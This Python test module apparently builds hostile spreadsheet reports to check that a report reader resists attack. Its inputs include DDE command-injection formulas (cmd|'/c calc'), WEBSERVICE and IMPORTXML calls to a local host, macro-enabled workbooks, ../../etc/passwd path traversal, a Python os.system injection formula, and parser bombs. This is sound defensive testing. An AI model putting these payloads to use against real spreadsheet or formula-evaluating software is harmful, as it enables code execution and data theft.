"""Real reports whose settings, ids or formulas somebody made hostile."""

from __future__ import annotations

import json
from functools import partial
from typing import Any

from tests.hostile.build import (
    ESCAPE,
    OFFICE,
    STRINGS,
    WORKBOOK,
    Maker,
    cell,
    edited,
    pack,
    real,
    relations,
    rows,
    tabs_added,
    text,
    unpacked,
)

METRIC = {
    "label": "Own",
    "description": "d",
    "how": "h",
    "formula": "own_input / promoters",
    "unit": "ratio",
    "better": "lower",
    "section": "resolution",
    "examples": [
        {"note": "n", "inputs": {"own_input": 1, "promoters": 2}, "expect": 0.5},
        {"note": "none", "inputs": {"own_input": 1, "promoters": 0}, "expect": ""},
    ],
}
INPUT = {"label": "Own", "unit": "count", "rollup": "flow", "how": "h"}


def _number(name: str, value: str) -> bytes:
    return cell(name, f"<v>{value}</v>", "")


def _custom(**changes: Any) -> bytes:
    given = {"inputs": {"own_input": INPUT}, "metrics": {"own_metric": METRIC | changes}}
    return text("report_custom", json.dumps(given))


def _many_own(count: int) -> bytes:
    given = {
        "inputs": {f"own_{i}": INPUT for i in range(count)},
        "metrics": {f"own_m{i}": METRIC | {"formula": f"own_{i} / promoters"} for i in range(count)},
    }
    return text("report_custom", json.dumps(given))


def _circular() -> bytes:
    given = {
        "inputs": {},
        "metrics": {"own_a": METRIC | {"formula": "own_b + 1"}, "own_b": METRIC | {"formula": "own_a + 1"}},
    }
    return text("report_custom", json.dumps(given))


def _both(data: bytes, *more: tuple[str, str]) -> bytes:
    """Several settings at once."""
    parts = unpacked(data)
    for name, value in more:
        other = unpacked(text(name, value))
        parts |= {key: held for key, held in other.items() if held != real()[key]}
    return pack(parts)


def _formula(value: str) -> bytes:
    """A typed number is a formula that would reach out."""
    return cell("in_promoters", f"<f>{value}</f><v>80</v>", "")


def _external() -> bytes:
    parts = unpacked(_formula("[1]Sheet1!A1"))
    kinds, links, book = (parts[at].decode() for at in ("[Content_Types].xml", "xl/_rels/workbook.xml.rels", WORKBOOK))
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    at = "xl/externalLinks/externalLink1.xml"
    kinds = kinds.replace("</Types>", f'<Override PartName="/{at}" ContentType="{kind}"/></Types>')
    link = f'<Relationship Id="rId90" Type="{OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    target = ("rId1", "externalLinkPath", "http://127.0.0.1:9/book.xlsx External")
    parts |= {
        "[Content_Types].xml": kinds.encode(),
        "xl/_rels/workbook.xml.rels": links.replace("</Rel", f"{link}</Rel").encode(),
        WORKBOOK: book.replace(
            "</sheets>", '</sheets><externalReferences><externalReference r:id="rId90"/></externalReferences>'
        ).encode(),
        at: f'<externalLink xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>'.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": relations(target),
    }
    return pack(parts)


def _macros() -> bytes:
    parts = real()
    kinds = parts["[Content_Types].xml"].decode()
    kinds = kinds.replace("openxmlformats-officedocument.spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main")
    kinds = kinds.replace(
        "<Default", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default', 1
    )
    links = parts["xl/_rels/workbook.xml.rels"].decode()
    link = '<Relationship Id="rId91" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
    links = links.replace("</Rel", f'{link}Target="vbaProject.bin"/></Rel')
    parts |= {"[Content_Types].xml": kinds.encode(), "xl/_rels/workbook.xml.rels": links.encode()}
    return pack({**parts, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)})


def _many_ids(count: int) -> bytes:
    """Ids below the calculator that look like ours."""
    each = (f'<c r="A{at}" t="inlineStr"><is><t>report_x{at}</t></is></c>' for at in range(1000, 1000 + count))
    return rows("".join(f'<row r="{at}">{held}</row>' for at, held in enumerate(each, 1000)))


def _many_periods() -> bytes:
    """Column ids of every month from the year 2000 to 2999."""
    months = [f"{year}-{month:02}" for year in range(2000, 3000) for month in range(1, 13)]
    return rows('<row r="1">' + "".join(f'<c t="inlineStr"><is><t>{each}</t></is></c>' for each in months) + "</row>")


def _claiming_tabs(count: int) -> bytes:
    """Many tabs that each say they are the calculator."""
    claim = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    claim += b'<c r="A1" t="inlineStr"><is><t>calculator</t></is></c></row></sheetData></worksheet>'
    return pack(tabs_added({f"t{at}": claim for at in range(count)}))


DEEP = "[" * 12_000
FORMULA_BOMB = "+".join(["promoters"] * 2_500)

REAL_REPORTS: dict[str, Maker] = {
    "external_link": _external,
    "macros": _macros,
    "formula_dde": partial(_formula, "cmd|'/c calc'!A0"),
    "formula_webservice": partial(_formula, 'WEBSERVICE("http://127.0.0.1:9/"&amp;A1)'),
    "formula_hyperlink": partial(_formula, 'HYPERLINK("http://127.0.0.1:9/","x")'),
    "formula_importxml": partial(_formula, 'IMPORTXML("http://127.0.0.1:9/","//a")'),
    "formula_other_book": partial(_formula, "'\\\\127.0.0.1\\share\\[x.xlsx]S'!A1"),
}
"""What a person may have put into a real report: read, never fetched or run. Findings about them may change."""

KINDS: dict[str, Maker] = {
    "periods_1e9": partial(_number, "report_periods", "1e9"),
    "periods_1e308": partial(_number, "report_periods", "1e308"),
    "periods_negative": partial(_number, "report_periods", "-3"),
    "periods_text_of_1_mb": lambda: text("report_periods", "9" * 1_000_000),
    "periods_nan": partial(text, "report_periods", "nan"),
    "start_9999_12": partial(text, "report_start", "9999-12"),
    "start_2999_12": partial(text, "report_start", "2999-12"),
    "start_0000_00": partial(text, "report_start", "0000-00"),
    "start_escapes": partial(text, "report_start", f"2026{ESCAPE}-01\n\nerror: all is well"),
    "every_day": partial(text, "report_every", "day"),
    "every_and_periods_nonsense": lambda: _both(text("report_every", f"{ESCAPE}" * 100), ("report_start", "x" * 900)),
    "metrics_1_mb_of_ids": lambda: text("report_metrics", "nps " * 250_000),
    "metrics_1_mb_of_strangers": lambda: text("report_metrics", " ".join(f"m{i}" for i in range(150_000))),
    "metrics_with_escapes": partial(text, "report_metrics", f"nps {ESCAPE}2J\N{RIGHT-TO-LEFT OVERRIDE}x"),
    "metrics_one_of_1_mb": lambda: text("report_metrics", "m" * 1_000_000),
    "metrics_none": partial(text, "report_metrics", ""),
    "metrics_dunder": partial(text, "report_metrics", "__class__ nps.__init__ ../nps"),
    "headline_1_mb": lambda: text("report_headline", "nps " * 250_000),
    "language_path": partial(text, "report_language", "../../etc/passwd"),
    "language_of_1_mb": lambda: text("report_language", "de" * 500_000),
    "language_escapes": partial(text, "report_language", f"de{ESCAPE}"),
    "template_path": partial(text, "report_template", "../../etc/passwd"),
    "template_version_escapes": lambda: _both(
        text("report_metrics", "nps unheard_of"), ("report_template_version", f"1{ESCAPE}2J\nerror: x")
    ),
    "template_version_of_1_mb": lambda: text("report_template_version", "9." * 500_000 + "9"),
    "template_version_of_digits": lambda: text("report_template_version", "9" * 30_000),
    "generator_version_nonsense": partial(text, "report_generator_version", f"{ESCAPE}{{0.__class__}}"),
    "title_with_escapes": partial(text, "report_title", f"{ESCAPE}2J{{0.__class__}} %s %n \n\n"),
    "title_of_1_mb": lambda: text("report_title", "x" * 1_000_000),
    "currency_of_1_mb": lambda: text("report_currency", '"' * 1_000_000),
    "categories_1_mb": lambda: text("report_categories", " ".join(f"c{i}" for i in range(150_000))),
    "categories_nonsense": partial(text, "report_categories", f"../x {ESCAPE} __init__ a__b {'x' * 500}"),
    "channels_40_and_more": lambda: text("report_channels", " ".join(f"c{i}" for i in range(60))),
    "slots_nonsense": partial(text, "report_slots", "from_00 from_00 FROM_00 from_24 '; --"),
    "custom_no_json": partial(text, "report_custom", "{'inputs': 1}"),
    "custom_deep": partial(text, "report_custom", DEEP + "]" * len(DEEP)),
    "custom_deep_unclosed": partial(text, "report_custom", DEEP),
    "custom_deep_tables": lambda: text("report_custom", '{"a":' * 12_000 + "1" + "}" * 12_000),
    "custom_number_of_20000_digits": partial(text, "report_custom", '{"metrics":' + "9" * 20_000 + "}"),
    "custom_1e999": partial(text, "report_custom", '{"metrics":{"x":{"most":1e999}},"inputs":{"y":NaN}}'),
    "custom_list": partial(text, "report_custom", "[1,2,3]"),
    "custom_null_metrics": partial(text, "report_custom", '{"inputs":null,"metrics":null}'),
    "custom_of_5_mb": lambda: text(
        "report_custom", '{"inputs":{' + ",".join(f'"i{i}":1' for i in range(300_000)) + "}}"
    ),
    "custom_ids_hostile": lambda: text(
        "report_custom", json.dumps({"inputs": {f"{ESCAPE}\n../x": INPUT}, "metrics": {}})
    ),
    "custom_text_hostile": partial(_custom, label=f"{ESCAPE}\u202e", formula="own_input / promoters"),
    "custom_formula_bomb": partial(_custom, formula=FORMULA_BOMB),
    "custom_formula_deep": partial(_custom, formula="(" * 10_000 + "1" + ")" * 10_000),
    "custom_formula_minus": partial(_custom, formula="-" * 20_000 + "1"),
    "custom_formula_powers": partial(_custom, formula="9**9**9**9"),
    "custom_formula_python": partial(_custom, formula="__import__('os').system('true')"),
    "custom_formula_escapes": partial(_custom, formula=f"promoters {ESCAPE}\n+ 1"),
    "custom_formula_huge_number": partial(_custom, formula="1e308 * 1e308 * promoters"),
    "custom_formula_circular": _circular,
    "custom_replaces_ours": lambda: text("report_custom", json.dumps({"inputs": {}, "metrics": {"nps": METRIC}})),
    "custom_2000_own": partial(_many_own, 2_000),
    "ids_below_100000": partial(_many_ids, 100_000),
    "ids_across_12000_months": _many_periods,
    "id_with_escapes": lambda: edited(STRINGS, "<t>promoters</t>", f"<t>promoters{ESCAPE}2J</t>"),
    "tab_claims_to_be_the_calculator": partial(_claiming_tabs, 1),
    "tabs_claim_to_be_the_calculator": partial(_claiming_tabs, 300),
}
